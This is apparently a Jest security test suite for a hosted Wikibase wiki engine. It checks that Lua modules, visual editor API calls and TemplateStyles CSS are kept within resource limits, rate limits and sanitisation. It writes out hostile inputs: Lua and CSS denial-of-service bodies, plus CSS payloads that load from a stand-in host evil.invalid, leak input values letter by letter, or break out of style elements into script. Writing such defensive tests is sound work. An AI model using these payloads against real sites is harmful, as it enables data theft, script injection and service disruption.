import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import { MEGABYTE } from '#contract/limits.ts'
import { hasLuaSandbox, luaModule } from '#server/engine/testing/lua-sandbox.ts'
import { ADMIN, type TestEngine } from '#server/engine/testing/test-engine.ts'
import { WikiClient } from '#server/engine/testing/wiki-client.ts'
import { startWikibaseEngine } from '#server/engine/testing/wikibase-engine.ts'

let kit: TestEngine
let wiki: WikiClient
let reader: WikiClient

beforeAll(async () => {
  kit = await startWikibaseEngine({
    // Allows ten costly requests at once. Nothing is given back, however long they take.
    visitorBudget: 1,
    budgetClock: { now: () => 0 },
    trustProxy: ['loopback'],
  })
  wiki = await kit.openWiki('attacked')
  reader = await kit.openWiki('reader')
  await kit.engine.publish({
    domain: wiki.host,
    sitename: 'Attacked',
    settings: { wwExtEnableScribunto: '1', wwExtEnableVisualEditor: '1', wwExtEnableTemplateStyles: '1' },
    deletedAt: null,
  })
})
afterAll(async () => {
  await kit.close()
  // LuaSandbox's message about endless recursion, and PHP's about its memory limit.
  const known = /Failed to generate Lua trace|Allowed memory size|More messages of this request/
  expect(kit.complaints.filter(text => !known.test(text))).toEqual([])
})

const describeModules = hasLuaSandbox() ? describe : describe.skip

describeModules('a module in Lua', () => {
  /** Runs a module several times on one page. */
  async function run(): Promise<{ status: number; text: string }> {
    const text = '{{#invoke:Evil|main}}'.repeat(5)
    const parse = { action: 'parse', contentmodel: 'wikitext', text, prop: 'text', format: 'json' }
    return await wiki.post('/w/api.php', parse)
  }
  const write = async (body: string) => await wiki.edit('Module:Evil', { text: luaModule(body) })

  test('that never ends is stopped, and meanwhile another wiki can be read', async () => {
    expect(await write('while true do pcall(function() while true do end end) end')).toBe('Success')
    let isRunning = true
    const attack = Promise.all(Array.from({ length: 6 }, run)).finally(() => {
      isRunning = false
    })
    const statuses: number[] = []
    while (isRunning) {
      const { status } = await reader.request(`/w/index.php?title=Main_Page&turn=${statuses.length}`)
      if (isRunning) statuses.push(status)
    }
    expect(new Set(statuses)).toEqual(new Set([200]))
    for (const { text } of await attack) expect(text).toMatch(/time allocated|busy|many/i)
  })

  test.each([
    ['a text cut into its letters', "return #mw.text.split(('x'):rep(1e7), '')"],
    [
      'a text cut at nothing for ever',
      "for _ in mw.text.gsplit(('x'):rep(1e6), '()') do end\nwhile true do end",
    ],
    [
      'a pattern that tries every way',
      "return tostring(mw.ustring.find(('a'):rep(40), ('a?'):rep(40) .. ('a'):rep(40)))",
    ],
    ['a pattern that backs up', "return tostring(mw.ustring.find(('a'):rep(20000), ('.-'):rep(20) .. 'b'))"],
    ['a text escaped', "return #mw.text.nowiki(('['):rep(2e7))"],
    ['a text encoded again and again', "local s = '&'\nwhile true do s = mw.text.encode(s .. s) end"],
    ['brackets of JSON', "return tostring(mw.text.jsonDecode(('['):rep(1e6)))"],
    ['a table inside itself as JSON', 'local t = {}\nt.t = t\nreturn mw.text.jsonEncode(t)'],
    [
      'a table inside itself as text',
      'local t = {}\nfor i = 1, 1e6 do t = { t } end\nreturn mw.dumpObject(t)',
    ],
    [
      'a million tags',
      "local h = mw.html.create('b')\nfor i = 1, 1e6 do h = h:tag('b') end\nreturn tostring(h)",
    ],
    ['itself', "return frame:preprocess('{{#invoke:Evil|main}}')"],
    [
      'itself twice',
      "return frame:preprocess('{{#invoke:Evil|main|' .. mw.uri.encode(tostring(os.clock())) .. '}}{{#invoke:Evil|main}}')",
    ],
    ['braces that never close', "return frame:preprocess(('{{'):rep(2e5))"],
    [
      'hashes without end',
      "local s = ('x'):rep(1e7)\nwhile true do s = s .. mw.hash.hashValue('sha512', s) end",
    ],
    [
      'titles without end',
      'local n = 0\nwhile true do n = n + 1\npcall(function() return mw.title.new("P" .. n).exists end) end',
    ],
    ['an error of 20 MB', "error(('x'):rep(2e7))"],
    ['a text of 20 MB', "return ('x'):rep(2e7)"],
    ['a text of 20 MB of markup', "return ('[[a]]\\n'):rep(3e6)"],
    ['a log of 20 MB', "mw.log(('x'):rep(2e7))"],
    ['warnings without end', "while true do mw.addWarning(('x'):rep(1e5)) end"],
  ])('ends within its limits: %s', async (_what, body) => {
    expect(await write(body)).toBe('Success')
    const { status, text } = await run()
    expect(status).toBe(200)
    expect(text).toMatch(/Lua error|time allocated|include size too large|<p>(?:nil){5}|<p>[{]{1000}/)
    // `$wgMaxArticleSize`
    expect(text.length).toBeLessThan(2.1 * MEGABYTE)
    expect((await reader.request('/wiki/Main_Page')).status).toBe(200)
    expect((await wiki.request('/w/index.php?title=Main_Page&action=raw')).status).toBe(200)
  })

  test('that makes PHP remember dates endlessly takes no more memory than a request may', async () => {
    const dates = "while true do mw.getContentLanguage():formatDate('r', '@' .. math.random(1e9)) end"
    expect(await write(dates)).toBe('Success')
    const { status, text } = await run()
    // Which of the two limits is reached first depends on the machine.
    if (status === 200) expect(text).toMatch(/time allocated/)
    else
      expect([status, kit.complaints.join()]).toEqual([500, expect.stringContaining('Allowed memory size')])
    expect((await reader.request('/wiki/Main_Page')).status).toBe(200)
  })
})

describe('the visual editor', () => {
  /** Would expand to ten million words. */
  const LAUGHS = `${'{{Ten|'.repeat(7)}ha${'}}'.repeat(7)}`
  let networks = 0

  beforeAll(async () => {
    expect(await wiki.edit('Template:Ten', { text: '{{{1}}}'.repeat(10) })).toBe('Success')
    expect(await wiki.edit('Project:Draft', { text: 'As it was' })).toBe('Success')
  })

  const shown = (fields: Record<string, string>) => ({
    action: 'visualeditor',
    page: 'Project:Draft',
    ...fields,
  })
  const edited = (fields: Record<string, string>) => ({
    action: 'visualeditoredit',
    page: 'Project:Draft',
    token: '+\\',
    html: '<p>Spam</p>',
    ...fields,
  })

  test.each<[string, 'GET' | 'POST', Record<string, string>]>([
    ['the page', 'GET', shown({ paction: 'parse' })],
    ['the page', 'POST', shown({ paction: 'parse' })],
    ['the wikitext', 'GET', shown({ paction: 'wikitext' })],
    ['facts', 'GET', shown({ paction: 'metadata' })],
    ['a text', 'POST', shown({ paction: 'parsefragment', wikitext: LAUGHS })],
    ['a text saved on the way', 'POST', shown({ paction: 'parsefragment', wikitext: LAUGHS, pst: '1' })],
    ['the templates of a text', 'POST', shown({ paction: 'templatesused', wikitext: LAUGHS })],
    ['wikitext of HTML', 'POST', edited({ paction: 'serialize' })],
    ['wikitext of HTML for later', 'POST', edited({ paction: 'serializeforcache' })],
    ['a difference', 'POST', edited({ paction: 'diff' })],
    ['a page of its own', 'POST', edited({ paction: 'save' })],
  ])(
    'is charged to the network of a passer-by who asks for %s by %s, and saves nothing',
    async (_what, method, fields) => {
      const network = { 'x-forwarded-for': `203.0.113.${++networks}` }
      const visitor = new WikiClient(kit.port, kit.domain('attacked'), network)
      const statuses: number[] = []
      while (statuses.length < 60 && statuses.at(-1) !== 429) {
        const turn = { ...fields, format: 'json', requestid: String(statuses.length) }
        const asked =
          method === 'POST'
            ? visitor.post('/w/api.php', turn)
            : visitor.request(`/w/api.php?${new URLSearchParams(turn)}`)
        statuses.push((await asked).status)
      }
      expect([statuses[0], statuses.at(-1)]).toEqual([200, 429])
      expect(await wiki.page('/w/index.php?title=Project:Draft&action=raw')).toBe('As it was')
    },
  )

  test('hides nothing from the member whose page it is, while visitors are refused', async () => {
    const { visualeditor } = await wiki.api<{ visualeditor: { content: string } }>(
      shown({ paction: 'parse' }),
    )
    expect(visualeditor.content).toContain('As it was')
    expect(await reader.logIn(ADMIN.username, ADMIN.password)).toBe('PASS')
  })
})

const hasStyles = existsSync(
  join(process.env['WIKIBASE_DIR'] ?? '', 'extensions/TemplateStyles/extension.json'),
)
const describeStyles = hasStyles ? describe : describe.skip

describeStyles('styles of a template', () => {
  /** Saves styles and uses them on a page. @returns the result of saving, and the page's styles. */
  async function use(css: string): Promise<{ saved: string; styles: string }> {
    const saved = await wiki.edit('Template:Evil/styles.css', { text: css })
    const text = '<templatestyles src="Evil/styles.css" /><b class="here">Here</b>'
    const parse = { action: 'parse', contentmodel: 'wikitext', text, prop: 'text', format: 'json' }
    const { status, text: page } = await wiki.post('/w/api.php', parse)
    expect(status).toBe(200)
    const html = (JSON.parse(page) as { parse: { text: { '*': string } } }).parse.text['*']
    const styles = [...html.matchAll(/<style[^>]*>([\s\S]*?)<\/style>/g)].map(([, style = '']) => style)
    expect(html.replace(/<style[^>]*>[\s\S]*?<\/style>/g, '')).not.toMatch(/<script|<\/style/i)
    return { saved, styles: styles.join('\n') }
  }

  test('are shown for the text of the page alone', async () => {
    const { saved, styles } = await use('b { color: red } body > b, html b { color: blue }')
    expect(saved).toBe('Success')
    expect(styles).toContain('.mw-parser-output b{color:red}')
    for (const rule of styles.matchAll(/([^{}]+)\{/g)) expect(rule[1]).toContain('.mw-parser-output')
  })

  test.each([
    ['a picture of another host', 'b { background: url(https://evil.invalid/x.png) }'],
    [
      'a font of another host',
      '@font-face { font-family: TemplateStylesX; src: url(//evil.invalid/x.woff) }',
    ],
    ['a style sheet of another host', '@import url(https://evil.invalid/x.css);'],
    ['a picture set', 'b { background: image-set("https://evil.invalid/x.png" 1x) }'],
    ['a name with escapes', 'b { background: \\75 rl(https://evil.invalid/x.png) }'],
    ['a comment in between', 'b { background: u/**/rl(https://evil.invalid/x.png) }'],
    ['a variable', ':root { --x: url(https://evil.invalid/x.png) } b { background: var(--x) }'],
    ['the end of the element', 'b { content: "</style><script>alert(1)</script>" }'],
    ['the end of the element in a comment', '/* </style><script>alert(1)</script> */'],
    ['the end of the element in a selector', 'b[title="</style><script>alert(1)</script>"] { color: red }'],
    ['an expression', 'b { width: expression(alert(1)) }'],
    ['a binding', 'b { -moz-binding: url(https://evil.invalid/x.xml#x); behavior: url(x.htc) }'],
    ['a script', 'b { background: url(javascript:alert(1)) }'],
    ['values read letter by letter', 'input[value^="a"] { background: url(https://evil.invalid/a) }'],
    ['a rule inside a rule', 'b { & a { background: url(https://evil.invalid/x.png) } }'],
    ['a letter set', '@charset "utf-7"; +ADw-script+AD4-'],
  ])('reach no other host and run nothing: %s', async (_what, css) => {
    const { styles } = await use(css)
    expect(styles).not.toMatch(/evil\.invalid|<\/|<script|expression\(|javascript:|behavior|@import|\+ADw/i)
  })

  test.each([
    ['many rules', 'b{color:red}'.repeat(1e5)],
    ['a long selector', `${'b '.repeat(2e5)}{color:red}`],
    ['brackets without end', `b{width:${'calc('.repeat(3e4)}1px`],
    ['braces without end', '@media screen{'.repeat(5000)],
    ['a text without end', `b{content:"${'x'.repeat(1e6)}`],
    ['conditions without end', `@supports ${'(not '.repeat(2e4)}(a:b)${')'.repeat(2e4)}{b{color:red}}`],
    ['grids', `b{grid-template:${'[a] 1fr '.repeat(3e4)}}`],
    ['shadows', `b{box-shadow:${'1px 1px red,'.repeat(2e4)}1px 1px red}`],
  ])('end within the limits of a request, and meanwhile another wiki is read: %s', async (_what, css) => {
    const attack = use(css)
    expect((await reader.request('/wiki/Main_Page')).status).toBe(200)
    const { styles } = await attack
    expect(styles.length).toBeLessThan(MEGABYTE)
    expect((await wiki.request('/w/index.php?title=Main_Page&action=raw')).status).toBe(200)
  })
})
